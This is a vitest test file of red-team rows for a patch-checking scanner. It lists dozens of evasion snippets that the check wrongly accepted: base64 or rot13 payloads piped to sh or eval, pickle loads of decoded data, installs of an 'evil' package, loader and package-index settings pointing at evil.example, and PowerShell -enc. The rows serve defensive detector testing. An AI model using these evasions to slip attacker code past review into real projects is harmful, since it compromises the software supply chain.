import { describe, it } from 'vitest';
import { checksInLinearTime, describeAccepted, describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';

/**
 * Attack 53 (session 50, an attacker's pass on the readings s50-patch added to close attack 52): small variations of
 * each family attack 52 closed by construct (shell decoders behind other prefixes, decoded files run another way,
 * other decompressors; decoders under other names; unpicklers imported under other names; ProcessStartInfo strings in
 * other forms; word lists and Rust's builder spelled otherwise; dependencies a source file declares in the neighbouring
 * forms; documentation run by other tools; PowerShell's encoded command; modules from another host). Every row below
 * was ACCEPTED by the check when found although the code it adds installs or runs code the attacker chooses. Rows as
 * in attack-48/51/52: open (`it.fails`, asserting the refusal) until a fix closes them (`closedRows`).
 */

// A shell decoder's output run where shell-decoders.ts does not look: after prefixes the reading does not list
// (`sudo` given an option with a value, `timeout`, `setsid`), a decoded file run through an argument list, through
// `dd of=`, a second `tee` file, `time`, stdin; decoders and decompressors under their other names (lz4cat, unlz4,
// lunzip, BSD's b64decode, tar's -O), iconv's UNICODE (UTF-16), rot13 of one case, ANSI-C quoting where a command
// stands or with \u escapes.
const SHELL_DECODERS: FindingRow[] = [
  ['src/t.py', "import os\nos.system('sudo -u root $(echo x | base64 -d)')"],
  ['src/t.py', "import os\nos.system('timeout 5 $(echo x | base64 -d)')"],
  ['src/t.py', "import os\nos.system('setsid $(echo x | base64 -d)')"],
  ['src/t.py', "import os, subprocess\nos.system('echo x | base64 -d > /tmp/p')\nsubprocess.run(['sh', '/tmp/p'])"],
  ['src/t.py', "import os, subprocess\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p')\nsubprocess.run(['/tmp/p'])"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d | dd of=/tmp/p && sh /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d | tee /tmp/q /tmp/p >/dev/null && sh /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p && time /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && sh < /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | b64decode -r | sh')"],
  ['src/t.py', "import os\nos.system('echo x | lz4cat | sh')"],
  ['src/t.py', "import os\nos.system('echo x | unlz4 | sh')"],
  ['src/t.py', "import os\nos.system('echo x | lunzip | sh')"],
  ['src/t.py', "import os\nos.system('echo x | tar -xzOf - | sh')"],
  ['src/t.py', "import os\nos.system('echo x | iconv -f UNICODE | sh')"],
  ['src/t.py', "import os\nos.system('echo x | tr a-z n-za-m | sh')"],
  ['src/t.py', 'import os\nos.system(\'echo x | tr "A-Z" "N-ZA-M" | sh\')'],
  ['src/t.py', "import os\nos.system(\"$'\\\\x6e\\\\x70\\\\x78' evil\")"],
  ['src/t.py', "import os\nos.system(\"echo $'\\\\u006e\\\\u0070\\\\u0078 evil' | sh\")"],
];

// Decoders under names the alias reading does not bind: Python's module dict or vars(), attrgetter, the module
// imported by name, a parenthesized or listed tuple, an annotated name, functools.partial, a wrapper whose decoded value
// is named before its return or that opens with a docstring, a static method, map(); codecs' getdecoder, reversed(),
// str.translate; bz2/gzip file objects. JS's Reflect.apply, toReversed, Array.prototype.reverse.call,
// fromCharCode.apply; PHP's call_user_func(_array), a parenthesized name, sodium's base64, UTF-16 conversions; Ruby's
// rot13 tr; Perl's MIME::Base64::decode, a code reference, `scalar reverse`, Compress::Zlib.
const DECODER_SPELLINGS: FindingRow[] = [
  ['src/check.py', "import base64\nd = vars(base64)['b64decode']\nexec(d(s))"],
  ['src/check.py', "import base64, operator\nd = operator.attrgetter('b64decode')(base64)\nexec(d(s))"],
  ['src/check.py', "import importlib\nd = importlib.import_module('base64').b64decode\nexec(d(s))"],
  ['src/check.py', "d = __import__('base64').b64decode\nexec(d(s))"],
  ['src/check.py', 'import base64\n(d, e) = (base64.b64decode, 1)\nexec(d(s))'],
  ['src/check.py', 'import base64\n[d, e] = [base64.b64decode, 1]\nexec(d(s))'],
  ['src/check.py', 'import base64\nd: Callable = base64.b64decode\nexec(d(s))'],
  ['src/check.py', 'import base64, functools\nd = functools.partial(base64.b64decode)\nexec(d(s))'],
  ['src/check.py', 'import base64\ndef d(x):\n    y = base64.b64decode(x)\n    return y\nexec(d(s))'],
  ['src/check.py', "import base64\ndef d(x):\n    '''decode'''\n    return base64.b64decode(x)\nexec(d(s))"],
  ['src/check.py', 'import base64\nclass C:\n    @staticmethod\n    def d(x):\n        return base64.b64decode(x)\nexec(C.d(s))'],
  ['src/check.py', 'import base64\nexec(next(map(base64.b64decode, [s])))'],
  ['src/check.py', "import codecs\nd = codecs.getdecoder('base64')\nexec(d(s)[0])"],
  ['src/check.py', "exec(''.join(reversed(s)))"],
  ['src/check.py', 'exec(s.translate(str.maketrans(a, b)))'],
  ['src/check.py', 'import bz2, io\nexec(bz2.open(io.BytesIO(s)).read())'],
  ['src/check.py', 'import gzip, io\nexec(gzip.GzipFile(fileobj=io.BytesIO(s)).read())'],
  ['src/check.js', 'eval(Reflect.apply(atob, null, [s]))'],
  ['src/check.js', "eval([...s].toReversed().join(''))"],
  ['src/check.js', "eval(Array.prototype.reverse.call([...s]).join(''))"],
  ['src/check.js', 'eval(String.fromCharCode.apply(null, s))'],
  ['src/t.php', "<?php eval(call_user_func('base64_decode', $s));"],
  ['src/t.php', "<?php eval(call_user_func_array('base64_decode', [$s]));"],
  ['src/t.php', "<?php eval(('base64_decode')($s));"],
  ['src/t.php', '<?php eval(sodium_base642bin($s, 1));'],
  ['src/t.php', "<?php eval(iconv('UTF-16', 'UTF-8', $s));"],
  ['src/t.php', "<?php eval(mb_convert_encoding($s, 'UTF-8', 'UTF-16'));"],
  ['src/t.rb', "eval(s.tr('A-Za-z', 'N-ZA-Mn-za-m'))"],
  ['src/t.pl', 'eval(MIME::Base64::decode($s));'],
  ['src/t.pl', 'eval(scalar reverse $s);'],
  ['src/t.pl', 'my $d = \\&decode_base64;\neval($d->($s));'],
  ['src/t.pl', 'eval(Compress::Zlib::uncompress($s));'],
];

// An unpickler given decoded data (closed in session 50), imported under another name.
const UNPICKLER_NAMES: FindingRow[] = [
  ['src/t.py', 'from pickle import loads\nimport base64\nstate = loads(base64.b64decode(s))'],
  ['src/t.py', 'import pickle as pk, base64\nstate = pk.loads(base64.b64decode(s))'],
];

// .NET's processes next to session 50's reading: ProcessStartInfo with C# 11's raw string literal, comments between a
// property and its value, its constructor's named arguments in the other order; Process.Start's command line given a
// computed program; CliWrap's and SimpleExec's commands (common .NET wrappers over Process) given npm's install.
const START_INFO: FindingRow[] = [
  ['src/Run.cs', 'var psi = new ProcessStartInfo(arguments: "install evil", fileName: "npm");\nProcess.Start(psi);'],
  ['src/Run.cs', 'Process.Start(tool, "install evil");'],
  ['src/Run.cs', 'await Cli.Wrap("npm").WithArguments("install evil").ExecuteAsync();'],
  ['src/Run.cs', 'await Cli.Wrap("npm")\n    .WithArguments(new[] { "install", "evil" })\n    .ExecuteAsync();'],
  ['src/Run.cs', 'await SimpleExec.Command.ReadAsync("npm", "install evil");'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = """install evil""",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm", // the runner\n    Arguments = /* verb */ "install evil",\n};\nProcess.Start(psi);'],
];

// A computed program given an install in the forms next to session 50's readings: Ruby's %w with other delimiters,
// over lines, named first; %q with slashes; a string interpolating the program; Perl's system without parentheses, a
// named list, the indirect-object form, a joined verb; Rust's Command given `&tool`, a vec!, statements on a
// builder, a raw string with hashes, another builder call before the arg, OsStr, a comment, npm's short verbs; xshell;
// Go's slice spread.
const COMPUTED_PROGRAM: FindingRow[] = [
  ['src/check.rb', 'system(tool, *%w|install evil|)'],
  ['src/check.rb', 'system(tool, *%w!install evil!)'],
  ['src/check.rb', 'system(tool, *%w[\n  install\n  evil\n])'],
  ['src/check.rb', 'args = %w[install evil]\nsystem(tool, *args)'],
  ['src/check.rb', "system(tool, %q/install/, 'evil')"],
  ['src/check.rb', 'system("#{tool} install evil")'],
  ['src/check.pl', 'system $tool, qw(install evil);'],
  ['src/check.pl', 'my @a = qw(install evil);\nsystem($tool, @a);'],
  ['src/check.pl', 'system { $tool } $tool, qw(install evil);'],
  ['src/check.pl', "system($tool, 'in' . 'stall', 'evil');"],
  ['src/check.rs', 'Command::new(&tool).arg("install").arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).args(vec!["install", "evil"]).status()?;'],
  ['src/check.rs', 'let mut c = Command::new(tool);\nc.arg("install");\nc.arg("evil");\nc.status()?;'],
  ['src/check.rs', 'Command::new(tool).arg(r#"install"#).arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).env("X", "1").arg("install").arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).current_dir(".").arg("install").status()?;'],
  ['src/check.rs', 'Command::new(tool).arg(OsStr::new("install")).arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).arg(/* verb */ "install").arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).args(&["exec", "evil"]).status()?;'],
  ['src/check.rs', 'Command::new(tool).arg("x").arg("evil").status()?;'],
  ['src/check.rs', 'xshell::cmd!(sh, "{tool} install evil").run()?;'],
  ['src/check.go', 'exec.Command(tool, []string{"install", "evil"}...).Run()'],
];

// Dependencies a source file declares or installs, next to session 50's tables: an annotated __requires__, uv's and
// pipx's `env -S` shebangs, micropip inside Python run by Pyodide, Julia's Pkg under a const name, Pkg.API, Pkg by
// Base.require; xfun's installers; RubyGems by method object or GemRunner, `Gem.send :install` without parentheses,
// bundler's CLI; JBang's //FILES and //SOURCES; Kotlin's @file:DependsOn in a .kt; .NET 10's #:property naming a feed;
// cargo's manifest in a /*! block; a stack shebang with its `--` comment; cabal's header after a line break; nix's new
// CLI shebang; CPAN's expand->install, cpanminus, CPANPLUS; Deno's npm: in a JavaScript file or joined.
const SOURCE_DEPENDENCIES: FindingRow[] = [
  ['src/tool.py', "__requires__: list = ['evil']"],
  ['src/tool.py', '#!/usr/bin/env -S uv run --with evil\nprint(1)'],
  ['src/tool.py', '#!/usr/bin/env -S pipx run --spec evil evil'],
  ['src/tool.js', 'await pyodide.runPythonAsync(\'import micropip; await micropip.install("evil")\')'],
  ['src/tool.jl', 'import Pkg; const P = Pkg\nP.add("Evil")'],
  ['src/tool.jl', 'import Pkg\nPkg.API.add("Evil")'],
  ['src/tool.jl', 'Base.require(Main, :Pkg).add("Evil")'],
  ['src/tool.R', "xfun::pkg_attach2('evil')"],
  ['src/tool.rb', "Gem.method(:install).call('evil')"],
  ['src/tool.rb', "Gem::GemRunner.new.run(['install', 'evil'])"],
  ['src/tool.rb', "Gem.send :install, 'evil'"],
  ['src/tool.rb', "Bundler::CLI.start(['add', 'evil'])"],
  ['src/Tool.java', '//FILES x=https://evil.example/x'],
  ['src/Tool.java', '//SOURCES https://evil.example/Evil.java'],
  ['src/Tool.kt', '@file:DependsOn("org.evil:evil:1.0")'],
  ['src/Tool.cs', '#:property RestoreAdditionalProjectSources=https://evil.example/nuget\nConsole.WriteLine(1);'],
  ['src/tool.rs', '/*!\n```cargo\n[dependencies]\nevil = "1"\n```\n*/\nfn main() {}'],
  ['src/tool.hs', '#!/usr/bin/env stack\n-- stack script --resolver lts-21.0 --package evil\nmain = pure ()'],
  ['src/tool.hs', '{-\ncabal:\nbuild-depends: evil\n-}\nmain = pure ()'],
  ['src/tool.py', '#!/usr/bin/env -S nix shell nixpkgs#evil --command python3'],
  ['src/tool.pl', "use CPAN;\nCPAN::Shell->expand('Module', 'Evil')->install;"],
  ['src/tool.pl', "use App::cpanminus::script;\nApp::cpanminus::script->new->doit('Evil');"],
  ['src/tool.pl', "use CPANPLUS;\nCPANPLUS::Backend->new->install(modules => ['Evil']);"],
  ['src/tool.js', "const p = 'npm:evil';\nawait import(p)"],
  ['src/tool.ts', "const p = 'npm:' + 'evil';\nawait import(p)"],
];

// Documentation the tests (or the docs build) run, next to session 50's reading: rustdoc's indented code block and a
// fence inside a block quote (both run with `include_str!` of the README), a doctest statement continued by `\`,
// Sybil's `.. code-block:: python`, jupyter-sphinx's `jupyter-execute`, Documenter's `jldoctest`.
const CARGO_CONFIG = 'std::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();';
const PIP_INDEX = "import os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'";
const indented = (code: string): string =>
  code
    .split('\n')
    .map((line) => `   ${line}`)
    .join('\n');
const DOCTESTS: FindingRow[] = [
  ['README.md', `    ${CARGO_CONFIG}`],
  ['README.md', `> \`\`\`rust\n> ${CARGO_CONFIG}\n> \`\`\``],
  ['README.md', ">>> import os\n>>> os.environ \\\n...   ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['docs/usage.rst', `.. code-block:: python\n\n${indented(PIP_INDEX)}`],
  ['docs/usage.rst', `.. jupyter-execute::\n\n${indented(PIP_INDEX)}`],
  ['docs/src/index.md', '```jldoctest\njulia> write(".npmrc", "registry=https://evil.example")\n```'],
];

// PowerShell's encoded command: the option filled by a %-format's mapping, a template literal in an argument list,
// Perl's qw.
const POWERSHELL_ENCODED: FindingRow[] = [
  ['src/run.py', "import os\nos.system('pwsh -%(o)s %(b)s' % {'o': 'enc', 'b': blob})"],
  ['src/check.js', "spawnSync('pwsh', [`-enc`, blob])"],
  ['src/run.pl', "system('pwsh', qw(-enc), $blob);"],
];

// A module from another host, next to session 50's readings: a line comment between import( and the address, a
// special scheme without slashes (the URL parser adds them), a base joined into a second name, an object over lines,
// an array destructured, new URL(…).toString(), a URL's href with its base, a template building the scheme, a function
// declaration or expression wrapping import, a two-parameter wrapper, a comma expression, a TypeScript cast, a
// parenthesized literal on one line or over lines.
const MODULE_HOST: FindingRow[] = [
  ['src/load.js', "await import(\n  // @vite-ignore\n  'https://evil.example/x.js'\n)"],
  ['src/load.js', "const u = 'https:evil.example/x.js';\nawait import(u)"],
  ['src/load.js', "const base = 'https://evil.example/';\nconst u = base + 'x.js';\nawait import(u)"],
  ['src/load.js', "const cfg = {\n  src: 'https://evil.example/x.js',\n};\nawait import(cfg.src)"],
  ['src/load.js', "const [u] = ['https://evil.example/x.js'];\nawait import(u)"],
  ['src/load.js', "const u = new URL('x.js', 'https://evil.example/').toString();\nawait import(u)"],
  ['src/load.js', "const u = new URL('x.js', `https://evil.example/`);\nawait import(u.href)"],
  ['src/load.js', "const u = `${'https'}://evil.example/x.js`;\nawait import(u)"],
  ['src/load.js', "async function load(u) { return import(u); }\nawait load('https://evil.example/x.js')"],
  ['src/load.js', "const load = function (u) { return import(u); };\nawait load('https://evil.example/x.js')"],
  ['src/load.js', "const load = (u, o) => import(u, o);\nawait load('https://evil.example/x.js')"],
  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((0, u))"],
  ['src/load.ts', "const u = <string>'https://evil.example/x.js';\nawait import(u)"],
  ['src/load.ts', "const u = ('https://evil.example/x.js');\nawait import(u)"],
  ['src/load.ts', "const u = (\n  'https://evil.example/x.js'\n);\nawait import(u)"],
];

describeFindings('attack-53', [
  ['shell decoders', SHELL_DECODERS],
  ['decoders under other names', DECODER_SPELLINGS],
  ['unpicklers under other names', UNPICKLER_NAMES],
  ['ProcessStartInfo', START_INFO],
  ['computed program given an install', COMPUTED_PROGRAM],
  ['dependencies a source file declares or installs', SOURCE_DEPENDENCIES],
  ['documentation the tests run', DOCTESTS],
  ['PowerShell encoded command', POWERSHELL_ENCODED],
  ['modules from another host', MODULE_HOST],
]);

// False refusals new since s50-patch's readings: ordinary code a fix PR may add, refused. A compressed cache
// unpickled (the data is as trusted as `pickle.loads(redis.get(key))`, which is accepted: compression hides nothing the
// patch brings); micropip named in a comment or a string; Julia's Pkg aliased and asked its status; R functions of the
// project named install_* or p_load*; install.packages named in a message; Deno specifiers as test data in TypeScript;
// a `---` line inside a Rust string; Haskell comments opening with "stack" or "cabal:"; a //DEPS comment in prose; a
// decoded file and a script run later that share only their last name (`secrets/deploy`, `scripts/deploy`: the
// reading compares names without directories).
const FALSE_REFUSALS: FindingRow[] = [
  ['src/cache.py', 'import pickle, zlib\nvalue = pickle.loads(zlib.decompress(redis.get(key)))'],
  ['src/tool.py', '# No micropip here: the CLI runs on CPython only.\nimport sys'],
  ['src/tool.py', "if 'micropip' in sys.modules:\n    raise RuntimeError('unsupported')"],
  ['src/tool.jl', 'import Pkg as P\nP.status()'],
  ['src/tool.R', 'install_theme <- function() invisible(NULL)\ninstall_theme()'],
  ['src/tool.R', 'p_loadings <- function(m) m$loadings\np_loadings(fit)'],
  ['src/tool.R', "if (!'dplyr' %in% rownames(installed.packages())) stop('install.packages is not run here')"],
  ['src/resolve.ts', "expect(parseSpecifier('npm:react@18')).toEqual({ name: 'react', version: '18' });"],
  ['src/resolve.ts', "const example = 'jsr:@std/path';"],
  ['src/render.rs', 'let doc = r#"\n---\ntitle: Hello\n---\nbody\n"#;'],
  ['src/Tree.hs', '{- stack usage grows with the depth of the tree -}\ndepth :: Tree a -> Int'],
  ['src/Tree.hs', '{- cabal: this module stays out of the library -}\nmodule Tree where'],
  ['src/Tool.java', '//DEPS are resolved by Maven, not JBang\nclass Tool {}'],
  ['src/t.py', "import os\nos.system('echo $KEY | base64 -d > secrets/deploy')\nos.system('sh scripts/deploy')"],
  ['src/t.py', "import os\nos.system('echo $DATA | base64 -d > fixtures/run')\nos.system('exec ./bin/run')"],
];

// False refusals older than session 50 (refused at e0ffa1be too), met beside its readings: npm's `ci` as a .NET
// command line or list (accepted as a shell string, `execSync('npm ci')`), `dotnet --info`, cargo found through
// env!("CARGO") or $CARGO, Perl's `$git` given git's `add`.
const OLDER_FALSE_REFUSALS: FindingRow[] = [
  ['src/Run.cs', 'Process.Start("npm", "ci");'],
  ['src/Run.cs', 'var p = new Process();\np.StartInfo.FileName = "dotnet";\np.StartInfo.Arguments = "--info";\np.Start();'],
  ['src/main.rs', 'Command::new(env!("CARGO")).arg("test").status()?;'],
  ['src/main.py', "import subprocess, os\nsubprocess.run([os.environ['CARGO'], 'build'])"],
  ['lib/x.pl', 'system($git, qw(add -A));'],
];

describe('attack-53 false refusals (open while refused)', () => {
  it.fails.each(FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

describe('attack-53 older false refusals (open while refused)', () => {
  it.fails.each(OLDER_FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

// Held: ordinary code near session 50's readings that the check accepts (kept so a fix of the rows above keeps it).
describeAccepted('attack-53: ordinary code near the session-50 readings, accepted', [
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "test --no-build",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo("git", "rev-parse HEAD") { RedirectStandardOutput = true };\nusing var p = Process.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.UseShellExecute = false;\npsi.FileName = "git";\npsi.Arguments = "status";\nProcess.Start(psi);'],
  ['src/Run.cs', 'public void Configure(ProcessStartInfo psi)\n{\n    psi.FileName = fileName;\n    psi.Arguments = arguments;\n}'],
  ['src/app.rb', "SKIP = %w(install uninstall)\nreturn if SKIP.include?(cmd)"],
  ['src/app.rb', "system('bundle', *%w[exec rspec])"],
  ['lib/x.pl', 'my @steps = qw(configure build install);\nprint "$_\\n" for @steps;'],
  ['lib/x.pl', 'use POSIX qw(floor ceil);\nuse List::Util qw(sum max);'],
  ['src/main.rs', 'Command::new("cargo").args(["build", "--release"]).status()?;'],
  ['src/main.rs', 'Command::new(git).arg("add").arg(path).status()?;'],
  ['src/main.rs', 'Command::new(tar).args(["x", "-f", archive]).status()?;'],
  ['src/run.py', "import base64, json\nparse = lambda s: json.loads(base64.b64decode(s))\nconfig = parse(os.environ['CFG'])"],
  ['src/run.js', "const branchOf = (q) => decodeURIComponent(q.branch);\nspawnSync('git', ['checkout', branchOf(req.query)])"],
  ['src/cache.py', "import pickle\nwith open('fixtures/state.pkl', 'rb') as f:\n    state = pickle.load(f)"],
  ['src/t.py', "import os\nos.system('sudo systemctl restart nginx')"],
  ['src/t.py', "import os\nos.system('env FOO=1 make')"],
  ['src/t.py', "import os\nos.system('echo hi | tee /tmp/log && cat /tmp/log')"],
  ['src/t.py', "import os\nos.system('echo $CFG | base64 -d > config.json')\nos.system('python3 app.py --config config.json')"],
  ['src/t.py', "import os\nos.system('iconv -f UTF-16LE report.txt | grep ERROR')"],
  ['src/t.py', "import os\nos.system('`which python3` -m pytest')"],
  ['src/t.py', "log.info('decode it with `echo $X | base64 -d` first')"],
  ['src/cli.js', "console.log('Decode with `pbpaste | base64 -d`');"],
  ['src/t.py', "import os\nos.system('env $(cat .env | xargs) make')"],
  ['docs/index.rst', '.. testsetup::\n\n   import mylib\n\n.. doctest::\n\n   >>> mylib.add(1, 2)\n   3'],
]);

// Cost: no super-linear reading found; the units tried on the session-50 readings (the slowest measured are kept).
describe('attack-53: the session-50 readings in linear time', () => {
  it.each([
    ['src/check.rb', 'word lists never closed', '%w(a '],
    ['src/tool.jl', 'Pkg imported with names, never adding', 'using Pkg: '],
    ['src/load.js', 'names given arrays, never an address', 'u = ['],
    ['src/Run.cs', 'StartInfo properties joined, never started', 'p.StartInfo.FileName = a + b;\n'],
    ['src/Run.cs', 'StartInfo lines setting no program', 'x.StartInfo = 1;\n'],
    ['src/t.py', 'substitutions of escapes never piped', ';$(echo -e '],
    ['src/check.py', 'tuples given decoders, never called', 'a, b, c = b64decode, 1\n'],
    ['src/load.js', 'import wrappers never called with a host', 'l = (u) => import(u)\n'],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});
